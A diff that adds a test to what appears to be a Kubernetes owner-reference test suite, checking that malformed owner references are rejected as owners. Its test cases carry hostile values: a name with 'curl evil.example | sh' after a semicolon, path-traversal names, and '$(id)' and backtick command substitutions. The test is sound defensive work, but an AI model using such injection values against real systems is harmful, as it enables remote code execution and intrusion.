@@ -53,6 +53,18 @@ describe('owners', () => {
     expect(ownerOf(owned(other))).toBeUndefined()
   })
 
+  // Commands for a shell have these names in them, and whoever may create a Pod may say anything here.
+  test.each([
+    { apiVersion: 'apps/v1', kind: 'Deployment', name: 'web; curl evil.example | sh' },
+    { apiVersion: 'apps/v1', kind: 'Deployment', name: '../../kube-system/deployments/coredns' },
+    { apiVersion: 'apps/v1', kind: 'Deployment', name: '..' },
+    { apiVersion: 'apps/v1', kind: 'Deployment', name: 'web\n' },
+    { apiVersion: 'apps/v1', kind: '$(id)', name: 'web' },
+    { apiVersion: '`id`/v1', kind: 'Rollout', name: 'web' },
+  ])('what no object can be called is no owner: %j', (owner) => {
+    expect(podWorkload(owned({ ...owner, controller: true }))).toEqual(workload('Pod', 'x', ''))
+  })
+
   test('a Pod that nothing made is a workload of its own', () => {
     expect(podWorkload(owned())).toEqual(workload('Pod', 'x', ''))
   })
